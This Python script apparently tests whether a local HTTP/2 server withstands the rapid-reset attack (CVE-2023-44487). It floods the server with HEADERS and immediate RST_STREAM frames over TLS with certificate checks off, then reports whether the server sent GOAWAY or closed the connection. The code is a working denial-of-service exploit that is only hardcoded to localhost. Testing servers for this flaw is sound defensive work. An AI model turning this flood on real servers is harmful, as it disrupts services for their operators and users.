#!/usr/bin/env python3
"""An HTTP/2 rapid-reset client (CVE-2023-44487): over TLS with ALPN h2, it sends HEADERS and
at once RST_STREAM(CANCEL) for stream after stream, as fast as it can, for up to N streams.
Prints "sent S goaway G closed C": how many streams it opened, whether the server sent GOAWAY,
whether the server closed the connection.  Usage: rapid_reset.py PORT HOST N"""
import socket, ssl, struct, sys

port, host, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])


def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload


# HPACK without Huffman: :method GET (2), :scheme https (7), :path / (4), :authority literal.
a = host.encode()
block = bytes([0x82, 0x87, 0x84, 0x41, len(a)]) + a
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(["h2"])
s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname=host)
assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
sent, closed = 0, False
try:
    for i in range(n):
        sid = 1 + 2 * i
        s.sendall(frame(1, 0x5, sid, block) + frame(3, 0, sid, struct.pack(">I", 8)))
        sent += 1
except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
    closed = True
buf = b""
s.settimeout(3)
try:
    while True:
        d = s.recv(65536)
        if not d:
            closed = True
            break
        buf += d
except (socket.timeout, ConnectionResetError, ssl.SSLError, OSError):
    pass
goaway, i = False, 0
while i + 9 <= len(buf):
    ln, t = int.from_bytes(buf[i:i + 3], "big"), buf[i + 3]
    goaway |= t == 7
    i += 9 + ln
print(f"sent {sent} goaway {goaway} closed {closed}", flush=True)
